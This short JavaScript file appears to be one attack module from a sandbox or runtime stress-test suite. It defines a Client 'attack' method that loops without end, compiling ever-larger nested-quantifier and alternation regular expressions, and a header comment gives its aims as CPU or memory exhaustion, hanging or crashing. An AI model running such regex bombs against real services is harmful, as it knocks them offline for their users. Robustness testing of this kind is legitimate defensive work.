// Tries: to compile regular expressions that grow beyond measure.
// Attack: call
// Ends: cpu | memory | stuck | crash

Client.prototype.attack = () => {
  for (let i = 1; ; i++) {
    try {
      new RegExp(`${'(?:'.repeat(8)}[^x]{1,${i}}${'){1,50}'.repeat(8)}`).test('a'.repeat(1000));
      new RegExp(`(?<n${i}>${'a|'.repeat(50_000)}b)${i}`, 'iu').test('c');
    } catch (error) {
      if (!(error instanceof SyntaxError)) throw error;
    }
  }
};
